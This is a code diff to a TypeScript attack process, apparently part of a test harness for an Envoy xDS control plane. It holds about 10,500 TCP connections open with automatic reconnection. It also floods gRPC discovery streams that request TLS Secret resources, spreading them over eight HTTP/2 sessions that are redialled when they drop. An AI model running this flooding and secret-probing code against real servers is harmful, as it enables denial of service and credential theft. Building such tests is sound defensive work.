@@ -1,5 +1,5 @@
 /** A process that attacks a server with the ADS credential of one registered cluster, as `attack.ts` orders; it receives nothing but the order. */
-import {type ClientHttp2Stream, connect as connectHttp2} from 'node:http2'
+import {type ClientHttp2Session, type ClientHttp2Stream, connect as connectHttp2} from 'node:http2'
 import {connect as connectTcp} from 'node:net'
 import {connect as connectTls} from 'node:tls'
 import {gzipSync} from 'node:zlib'
@@ -25,6 +25,7 @@ export interface Order {
 const path = '/envoy.service.discovery.v3.AggregatedDiscoveryService/DeltaAggregatedResources'
 const SECRET = 'type.googleapis.com/envoy.extensions.transport_sockets.tls.v3.Secret'
 const CONNECTIONS = 10_500
+const SESSIONS = 8
 
 function frame(message: Uint8Array, isCompressed = false): Buffer {
   const head = Buffer.alloc(5)
@@ -39,16 +40,29 @@ function encode(request: object): Uint8Array {
 
 function run({attack, host, port, serverName, cluster, certificate, key, roots}: Order): void {
   if (attack === 'connections') {
-    for (let count = 0; count < CONNECTIONS; count += 1) connectTcp({host, port}).on('error', () => undefined)
+    // One that is closed comes back a second later.
+    const hold = (): void =>
+      void connectTcp({host, port})
+        .on('error', () => undefined)
+        .on('close', () => setTimeout(hold, 1000))
+    for (let count = 0; count < CONNECTIONS; count += 1) hold()
     return
   }
 
-  const session = connectHttp2(`https://${serverName}`, {
-    createConnection: () => connectTls({host, port, servername: serverName, ca: roots, cert: certificate, key, ALPNProtocols: ['h2']}),
-  })
-  session.on('error', () => undefined)
+  const dial = (): ClientHttp2Session =>
+    connectHttp2(`https://${serverName}`, {
+      createConnection: () => connectTls({host, port, servername: serverName, ca: roots, cert: certificate, key, ALPNProtocols: ['h2']}),
+    }).on('error', () => undefined)
+  // 10900 allows few streams on one connection.
+  const sessions = Array.from({length: SESSIONS}, dial)
+  let opened = 0
   const node = {cluster, id: `${cluster}-attacker`}
   const open = (headers: Readonly<Record<string, string>> = {}): ClientHttp2Stream => {
+    opened += 1
+    const at = opened % SESSIONS
+    let session = sessions[at] ?? dial()
+    if (session.closed || session.destroyed) session = dial()
+    sessions[at] = session
     const stream = session.request({':method': 'POST', ':path': path, 'content-type': 'application/grpc', te: 'trailers', ...headers})
     stream.on('error', () => undefined)
     return stream
